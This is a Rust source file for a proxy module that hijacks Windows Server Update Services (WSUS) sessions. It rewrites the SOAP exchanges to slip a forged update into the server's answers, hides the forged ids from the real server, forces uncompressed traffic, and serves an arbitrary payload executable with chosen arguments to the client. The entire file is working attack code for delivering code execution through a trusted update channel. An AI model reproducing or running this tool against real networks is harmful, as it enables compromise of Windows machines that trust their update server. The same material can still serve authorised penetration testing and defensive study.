use std::collections::HashMap;

use http::header::{HeaderValue, ACCEPT_ENCODING, CONTENT_TYPE, HOST};
use http::Method;
use uuid::Uuid;

use crate::body::Body;
use crate::errors::Result;
use crate::modifier::Modifier;
use crate::request::ProxyRequest;
use crate::template::{xml_escape, TemplateSet};
use crate::update::FakeUpdate;

const WSUS_SOAP_ACTION: &str =
  "http://www.microsoft.com/SoftwareDistribution/Server/ClientWebService";

/// Rides a WSUS session, slipping a forged update into the server's answers
/// and serving the payload when the client comes back for it.
///
/// Update metadata travels over SOAP between client and server; exchanges
/// carrying the client web service's SOAPAction get rewritten, everything
/// else passes through untouched.
pub struct WsusXmlModifier {
  update: FakeUpdate,
  templates: TemplateSet,
}

impl WsusXmlModifier {
  /// Create the modifier, rendering every template once so a typo in a
  /// template file fails at startup instead of mid-session.
  pub fn new(update: FakeUpdate, templates: TemplateSet) -> Result<WsusXmlModifier> {
    let modifier = WsusXmlModifier { update, templates };
    modifier.sync_updates_xml()?;
    modifier.extended_updates_xml()?;
    Ok(modifier)
  }

  fn soap_action_matches(request: &ProxyRequest) -> bool {
    request
      .headers()
      .get("soapaction")
      .and_then(|v| v.to_str().ok())
      .map(|action| action.contains(WSUS_SOAP_ACTION))
      .unwrap_or(false)
  }

  // The client echoes update ids back to the server; ours must not reach the
  // real WSUS or it answers with instructions to forget them.
  fn remove_fake_ids(&self, content: &str) -> String {
    let bundle = format!("<int>{}</int>", self.update.bundle_id());
    let install = format!("<int>{}</int>", self.update.install_id());
    content.replace(&bundle, "").replace(&install, "")
  }

  fn inject_sync_updates(&self, content: &str) -> Result<String> {
    tracing::info!("adding forged update metadata to SyncUpdatesResult");
    let data = self.sync_updates_xml()?;
    if content.contains("<NewUpdates>") {
      Ok(content.replace("</NewUpdates>", &format!("{}</NewUpdates>", data)))
    } else {
      Ok(content.replace(
        "<SyncUpdatesResult>",
        &format!("<SyncUpdatesResult><NewUpdates>{}</NewUpdates>", data),
      ))
    }
  }

  fn inject_extended_update(&self, content: &str, host: &str) -> Result<String> {
    tracing::info!("adding forged update metadata to GetExtendedUpdateInfoResult");
    let update_xml = self.extended_updates_xml()?;
    let file_xml = self.file_location_xml(host);
    let content = if content.contains("<Updates>") {
      // the real server returned updates, ours ride along at the end
      content.replace("</Updates>", &format!("{}</Updates>", update_xml))
    } else {
      content.replace(
        "<GetExtendedUpdateInfoResult />",
        &format!(
          "<GetExtendedUpdateInfoResult><Updates>{}</Updates></GetExtendedUpdateInfoResult>",
          update_xml
        ),
      )
    };
    if content.contains("<FileLocations>") {
      Ok(content.replace("</FileLocations>", &format!("{}</FileLocations>", file_xml)))
    } else {
      Ok(content.replace(
        "</Updates>",
        &format!("</Updates><FileLocations>{}</FileLocations>", file_xml),
      ))
    }
  }

  fn file_location_xml(&self, host: &str) -> String {
    format!(
      "<FileLocation><FileDigest>{}</FileDigest><Url>{}</Url></FileLocation>",
      self.update.sha1_b64(),
      self.update.download_url(host)
    )
  }

  fn sync_updates_xml(&self) -> Result<String> {
    let update = &self.update;
    let mut guids = HashMap::new();
    guids.insert("install_guid", Uuid::new_v4().to_string());
    guids.insert("bundle_guid", Uuid::new_v4().to_string());
    let mut fields = HashMap::new();
    fields.insert("bundle_id", update.bundle_id().to_string());
    fields.insert("install_id", update.install_id().to_string());
    fields.insert("deploy_bundle_id", update.deploy_bundle_id().to_string());
    fields.insert("deploy_install_id", update.deploy_install_id().to_string());
    fields.insert(
      "install_xml",
      xml_escape(&self.templates.install.substitute(&guids)?),
    );
    fields.insert(
      "bundle_xml",
      xml_escape(&self.templates.bundle.substitute(&guids)?),
    );
    self.templates.sync_updates_result.substitute(&fields)
  }

  fn extended_updates_xml(&self) -> Result<String> {
    let update = &self.update;
    let mut fields = HashMap::new();
    fields.insert("filename", update.payload_path().to_string());
    fields.insert("prog_args", update.args().to_string());
    fields.insert("file_len", update.data().len().to_string());
    fields.insert("file_sha1", update.sha1_b64().to_string());
    fields.insert("file_sha256", update.sha256_b64().to_string());
    fields.insert("orig_filename", update.orig_filename().to_string());
    fields.insert("bundle_id", update.bundle_id().to_string());
    fields.insert("update_title", update.title().to_string());
    fields.insert("update_description", update.description().to_string());
    let parts = [
      (update.bundle_id(), &self.templates.bundle_extended_1),
      (update.install_id(), &self.templates.install_extended_1),
      (update.bundle_id(), &self.templates.bundle_extended_2),
      (update.install_id(), &self.templates.install_extended_2),
    ];
    let mut xml = String::new();
    for (id, template) in parts {
      let part = template.substitute(&fields)?;
      xml.push_str(&format!(
        "<Update><ID>{}</ID><Xml>{}</Xml></Update>\n",
        id,
        xml_escape(&part)
      ));
    }
    Ok(xml)
  }
}

impl Modifier for WsusXmlModifier {
  fn will_modify_request(&self, request: &ProxyRequest) -> bool {
    Self::soap_action_matches(request)
  }

  fn modify_request(&self, request: &mut ProxyRequest) -> Result<()> {
    let xpress = request
      .headers()
      .get(ACCEPT_ENCODING)
      .map(|v| v.as_bytes() == b"xpress")
      .unwrap_or(false);
    if xpress {
      // the client offers a compression no one else speaks; asking for
      // plain text keeps the XML rewritable
      request
        .headers_mut()
        .insert(ACCEPT_ENCODING, HeaderValue::from_static("utf-8"));
    }
    let content = match request.body() {
      Some(body) => String::from_utf8_lossy(body).into_owned(),
      None => return Ok(()),
    };
    if content.contains("<GetExtendedUpdateInfo") {
      let content = self.remove_fake_ids(&content);
      *request.body_mut() = Some(Body::from(content));
    }
    Ok(())
  }

  fn will_modify_response(&self, request: &ProxyRequest) -> bool {
    Self::soap_action_matches(request)
  }

  fn modify_response(&self, request: &mut ProxyRequest) -> Result<()> {
    let content = match request.response_body() {
      Some(body) => String::from_utf8_lossy(body).into_owned(),
      None => return Ok(()),
    };
    // the second sync of a session covers drivers, leave that one alone
    if content.contains("<DriverSyncNotNeeded>true") {
      return Ok(());
    }
    let mut content = content;
    if content.contains("<SyncUpdatesResult>") {
      content = self.inject_sync_updates(&content)?;
    }
    if content.contains("<GetExtendedUpdateInfoResult") {
      let host = request
        .headers()
        .get(HOST)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
      content = self.inject_extended_update(&content, &host)?;
    }
    *request.response_body_mut() = Some(Body::from(content));
    Ok(())
  }

  fn will_serve_response(&self, request: &ProxyRequest) -> bool {
    request.uri().path() == self.update.download_path()
  }

  fn get_response(&self, request: &mut ProxyRequest) -> Result<Body> {
    if request.method() == Method::GET {
      tracing::info!(
        "serving payload {} ({})",
        self.update.payload_path(),
        self.update.title()
      );
    }
    request.response_headers_mut().insert(
      CONTENT_TYPE,
      HeaderValue::from_static("application/octet-stream"),
    );
    Ok(Body::from(self.update.data().clone()))
  }
}
